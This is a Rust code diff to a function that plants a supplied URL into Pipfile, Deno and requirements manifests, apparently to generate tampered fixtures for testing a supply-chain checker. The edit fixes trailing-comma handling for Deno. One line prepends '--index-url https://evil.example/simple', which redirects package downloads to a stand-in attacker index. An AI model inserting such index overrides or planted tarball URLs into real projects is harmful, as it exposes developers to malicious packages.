@@ -76,7 +76,14 @@ fn planted(site: &Site<'_, '_>, url: &str) -> Option<String> {
             &format!("url = \"{url}\"\n"),
         ),
         Format::Pipfile => behind("{", &format!("\"file\": \"{url}\", ")),
-        Format::Deno => behind("{", &format!("\"tarball\": \"{url}\", ")),
+        Format::Deno => {
+            let member = format!("\"tarball\": \"{url}\"");
+            let text = behind("{", &format!("{member}, "))?;
+            // It may be the only member there is.
+            let (before, rest) = text.split_once(&format!("{member}, "))?;
+            let only = rest.trim_start().starts_with('}');
+            Some(if only { format!("{before}{member}{rest}") } else { text })
+        }
         Format::Requirements => Some(format!("--index-url https://evil.example/simple\n{}", site.text)),
         _ => None,
     }
